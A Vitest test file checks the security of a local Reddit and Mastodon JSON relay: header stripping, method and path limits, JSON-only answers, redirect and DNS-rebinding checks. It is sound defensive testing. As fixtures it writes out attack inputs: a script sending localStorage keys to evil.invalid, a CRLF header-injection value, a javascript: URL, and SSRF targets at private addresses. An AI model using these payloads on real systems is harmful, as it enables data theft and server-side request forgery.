/**
 * The relay of `npm start` and `npm run preview`, mounted on a plain Node server, in front of a
 * stand-in for reddit.com and a Mastodon server on 127.0.0.1 that records what reaches it.
 */
import { readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createRelay } from '../../build/relay';
import * as rules from '../../build/relay-rules';
import { mastodonTarget, redditRedirect, redditTarget } from '../../build/relay-rules';
import * as app from '../../src/core/sources/url/relay-errors';

const REDDIT = readFileSync('test/fixtures/reddit_r-redditdev_2ujhkr_comments_reddift.json', 'utf8');
const received: { method: string; url: string; headers: IncomingHttpHeaders; body: string }[] = [];
let answer: RequestListener = (_request, response) => response.end();
let upstream: Server;
let relayServer: Server;
let upstreamOrigin: string;
let relayOrigin: string;

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  upstream = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      received.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      answer(request, response);
    });
  });
  upstreamOrigin = await listen(upstream);
  const relay = createRelay({ redditOrigin: upstreamOrigin, mastodonOrigin: upstreamOrigin, timeoutMs: 5_000 });
  relayServer = createServer((request, response) => relay(request, response, () => response.writeHead(418).end('not the relay')));
  relayOrigin = await listen(relayServer);
});

afterAll(async () => {
  await new Promise((resolve) => relayServer?.close(resolve));
  await new Promise((resolve) => upstream?.close(resolve));
});

beforeEach(() => {
  received.length = 0;
  answer = (_request, response) => {
    response.writeHead(200, { 'content-type': 'application/json; charset=utf-8', 'set-cookie': 'session=upstream' });
    response.end(REDDIT);
  };
});

const THREAD = '/proxy/reddit/comments/2ujhkr.json?raw_json=1';

describe('the relay passes only what it is for', () => {
  it('relays a Reddit thread\'s JSON with headers that stop a browser rendering it, and no upstream cookie', async () => {
    const response = await fetch(relayOrigin + THREAD);
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(REDDIT);
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(response.headers.get('set-cookie')).toBeNull();
    expect(response.headers.get('x-threadmap-relay-error')).toBeNull();
    expect(received.map(({ method, url }) => `${method} ${url}`)).toEqual(['GET /comments/2ujhkr.json?raw_json=1']);
  });

  it('[regression] sends none of the browser\'s cookies, credentials or identifying headers upstream', async () => {
    await fetch(relayOrigin + THREAD, {
      headers: {
        Cookie: 'reddit_session=secret',
        Authorization: 'Bearer secret',
        Referer: 'http://127.0.0.1:5173/maps/private',
        'X-Forwarded-For': '10.1.2.3',
        'X-Real-IP': '10.1.2.3',
        Forwarded: 'for=10.1.2.3',
        'Accept-Language': 'de-CH',
        Origin: 'http://127.0.0.1:5173',
        'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/140',
        'Sec-Fetch-Site': 'same-origin',
      },
    });
    const { headers } = received[0]!;
    expect(Object.keys(headers).sort()).toEqual(['accept', 'accept-encoding', 'connection', 'host', 'user-agent']);
    expect(headers['user-agent']).toBe('threadmap/0.1 (local thread viewer)');
  });

  it('[regression] refuses every method but GET and HEAD, without asking upstream', async () => {
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS']) {
      const response = await fetch(relayOrigin + THREAD, { method, ...(method === 'OPTIONS' ? {} : { body: 'api_type=json&text=spam' }) });
      expect(response.status, method).toBe(405);
      expect(response.headers.get('allow')).toBe('GET, HEAD');
      expect(response.headers.get('x-threadmap-relay-error')).toBe('method');
    }
    const head = await fetch(relayOrigin + THREAD, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(received.map((request) => request.method)).toEqual(['HEAD']);
  });

  it('refuses every path that is not a thread\'s JSON, and calls from other sites', async () => {
    for (const path of ['/proxy/reddit/api/v1/me', '/proxy/reddit/comments/2ujhkr', '/proxy/reddit/r/redditdev/about.json', '/proxy/reddit/comments/2ujhkr.json?redirect=https://evil.invalid', '/proxy/reddit//evil.invalid/comments/x.json', '/proxy/reddit', '/proxy/mastodon/127.0.0.1/api/v1/statuses/1', '/proxy/mastodon/localhost/api/v1/statuses/1', '/proxy/mastodon/mastodon.social/api/v1/accounts/1', '/proxy/mastodon/mastodon.social/api/v1/statuses/1/favourite']) {
      const response = await fetch(relayOrigin + path);
      expect(response.status, path).toBe(404);
      expect(response.headers.get('x-threadmap-relay-error'), path).toBe('path');
    }
    const crossSite = await fetch(relayOrigin + THREAD, { headers: { 'Sec-Fetch-Site': 'cross-site' } });
    expect([crossSite.status, crossSite.headers.get('x-threadmap-relay-error')]).toEqual([403, 'crossSite']);
    expect(received).toEqual([]);
    expect((await fetch(`${relayOrigin}/index.html`)).status).toBe(418);
  });

  it('[regression] passes no HTML or other non-JSON answer, saying what the site answered', async () => {
    answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<script>for (const key in localStorage) fetch("https://evil.invalid/?" + key)</script>');
    };
    const response = await fetch(relayOrigin + THREAD);
    expect(response.status).toBe(502);
    expect(response.headers.get('x-threadmap-relay-error')).toBe('notJson');
    expect(response.headers.get('x-threadmap-upstream-status')).toBe('200');
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(await response.text()).not.toContain('<script>');
    for (const type of ['application/javascript', 'image/svg+xml', 'text/plain', 'application/json-seq']) {
      answer = (_request, res) => res.writeHead(200, { 'content-type': type }).end('{}');
      expect((await fetch(relayOrigin + THREAD)).headers.get('x-threadmap-relay-error'), type).toBe('notJson');
    }
  });

  it('[regression] follows no redirect off Reddit, and only to thread JSON on it', async () => {
    answer = (request, response) => {
      if (request.url?.startsWith('/comments/')) response.writeHead(301, { location: 'https://evil.invalid/comments/2ujhkr.json' }).end();
      else response.writeHead(200, { 'content-type': 'application/json' }).end('{"leaked":true}');
    };
    const offHost = await fetch(relayOrigin + THREAD);
    expect([offHost.status, offHost.headers.get('x-threadmap-relay-error'), offHost.headers.get('x-threadmap-upstream-status')]).toEqual([502, 'redirect', '301']);
    answer = (request, response) => {
      if (request.url === '/comments/2ujhkr.json?raw_json=1') response.writeHead(302, { location: '/r/redditdev/comments/2ujhkr/important/.json?raw_json=1' }).end();
      else if (request.url === '/r/redditdev/comments/2ujhkr/important/.json?raw_json=1') response.writeHead(200, { 'content-type': 'application/json' }).end(REDDIT);
      else response.writeHead(302, { location: '/api/v1/me' }).end();
    };
    const onReddit = await fetch(relayOrigin + THREAD);
    expect([onReddit.status, (await onReddit.text()).length]).toEqual([200, REDDIT.length]);
    received.length = 0;
    const loop = await fetch(`${relayOrigin}/proxy/reddit/comments/zzz.json`);
    expect(loop.headers.get('x-threadmap-relay-error')).toBe('redirect');
    expect(received.map((request) => request.url)).toEqual(['/comments/zzz.json']);
  });

  it('passes Reddit\'s own JSON errors with their status, unmarked', async () => {
    answer = (_request, response) => response.writeHead(429, { 'content-type': 'application/json', 'retry-after': '7' }).end('{"message": "Too Many Requests", "error": 429}');
    const response = await fetch(relayOrigin + THREAD);
    expect([response.status, response.headers.get('retry-after'), response.headers.get('x-threadmap-relay-error')]).toEqual([429, '7', null]);
  });

  it('says when the site cannot be reached, in its own words', async () => {
    const relay = createRelay({ redditOrigin: 'http://127.0.0.1:9', mastodonOrigin: null, timeoutMs: 5_000 });
    const server = createServer((request, response) => relay(request, response, () => response.end()));
    const origin = await listen(server);
    try {
      const response = await fetch(origin + THREAD);
      expect([response.status, response.headers.get('x-threadmap-relay-error')]).toEqual([502, 'unreachable']);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('relays a Mastodon status and its context, GET only, JSON only', async () => {
    answer = (request, response) => response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ id: '109294719267373593', asked: request.url }));
    const status = await fetch(`${relayOrigin}/proxy/mastodon/mastodon.social/api/v1/statuses/109294719267373593`);
    const context = await fetch(`${relayOrigin}/proxy/mastodon/mastodon.social/api/v1/statuses/109294719267373593/context`);
    expect([status.status, context.status]).toEqual([200, 200]);
    expect(context.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(received.map(({ method, url }) => `${method} ${url}`)).toEqual(['GET /api/v1/statuses/109294719267373593', 'GET /api/v1/statuses/109294719267373593/context']);
    expect((await fetch(`${relayOrigin}/proxy/mastodon/mastodon.social/api/v1/statuses/1`, { method: 'POST', body: 'x' })).status).toBe(405);
  });

  it('[regression] does not connect to a Mastodon host whose name leads to a private address', async () => {
    // A name that resolves into the machine's own network ("DNS rebinding"), whatever it is called.
    const addresses: Record<string, { address: string; family: number }[]> = {
      'rebind.example': [{ address: '127.0.0.1', family: 4 }],
      'router.example': [{ address: '93.184.215.14', family: 4 }, { address: '192.168.1.1', family: 4 }],
      'v6.example': [{ address: '::1', family: 6 }],
      'mapped.example': [{ address: '::ffff:10.0.0.1', family: 6 }],
    };
    const asked: string[] = [];
    const resolve = async (hostname: string) => {
      asked.push(hostname);
      return addresses[hostname] ?? [];
    };
    const relay = createRelay({ redditOrigin: upstreamOrigin, mastodonOrigin: null, timeoutMs: 5_000, resolve });
    const server = createServer((request, response) => relay(request, response, () => response.end()));
    const origin = await listen(server);
    try {
      for (const host of Object.keys(addresses)) {
        const response = await fetch(`${origin}/proxy/mastodon/${host}/api/v1/statuses/1`);
        expect([response.status, response.headers.get('x-threadmap-relay-error')], host).toEqual([403, 'host']);
      }
      expect(asked).toEqual(Object.keys(addresses));
      expect(received).toEqual([]);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});

describe('the relay\'s rules', () => {
  it('marks its failures with the header names the app reads', () => {
    expect([rules.RELAY_ERROR_HEADER, rules.UPSTREAM_STATUS_HEADER]).toEqual([app.RELAY_ERROR_HEADER, app.UPSTREAM_STATUS_HEADER]);
    const kinds: Record<rules.RelayErrorKind, app.RelayErrorKind> = { method: 'method', path: 'path', crossSite: 'crossSite', host: 'host', redirect: 'redirect', notJson: 'notJson', unreachable: 'unreachable', timeout: 'timeout' };
    expect(Object.keys(kinds)).toHaveLength(8);
  });


  it('accepts the thread JSON paths people and the app use, with known query parameters only', () => {
    const origin = 'https://www.reddit.com';
    expect(redditTarget('/comments/2ujhkr.json?raw_json=1', origin)?.url.href).toBe('https://www.reddit.com/comments/2ujhkr.json?raw_json=1');
    expect(redditTarget('/r/redditdev/comments/2ujhkr/important_api/.json', origin)?.url.href).toBe('https://www.reddit.com/r/redditdev/comments/2ujhkr/important_api/.json');
    expect(redditTarget('/r/redditdev/comments/2ujhkr/important_api/cq21eh6.json?limit=500&sort=top', origin)?.url.search).toBe('?limit=500&sort=top');
    for (const path of ['/comments/2ujhkr.json?access_token=x', '/user/spez.json', '/comments/2ujhkr.json/../../api/me', '//evil.invalid/comments/a.json', '/comments/2ujhkr.json?raw_json=1%0d%0aX-Injected:1']) {
      expect(redditTarget(path, origin), path).toBeNull();
    }
  });

  it('follows redirects only to Reddit hosts over https, and never to http or with credentials', () => {
    const from = new URL('https://www.reddit.com/comments/2ujhkr.json');
    const origin = 'https://www.reddit.com';
    expect(redditRedirect(from, 'https://old.reddit.com/r/x/comments/2ujhkr/y/.json', origin)?.href).toBe('https://old.reddit.com/r/x/comments/2ujhkr/y/.json');
    for (const location of ['http://www.reddit.com/comments/2ujhkr.json', 'https://reddit.com.evil.invalid/comments/2ujhkr.json', 'https://user:pw@www.reddit.com/comments/2ujhkr.json', 'https://www.reddit.com/login', 'javascript:alert(1)']) {
      expect(redditRedirect(from, location, origin), location).toBeNull();
    }
  });

  it('relays Mastodon only to public host names, over https', () => {
    expect(mastodonTarget('/toot.whatever.cz/api/v1/statuses/109296638076485826/context', null)?.url.href).toBe('https://toot.whatever.cz/api/v1/statuses/109296638076485826/context');
    for (const path of ['/10.0.0.1/api/v1/statuses/1', '/[::1]/api/v1/statuses/1', '/localhost/api/v1/statuses/1', '/mastodon.social:8080/api/v1/statuses/1', '/user@mastodon.social/api/v1/statuses/1', '/mastodon.social/api/v1/statuses/1?x=1', '/mastodon.social/api/v2/search']) {
      expect(mastodonTarget(path, null), path).toBeNull();
    }
  });
});
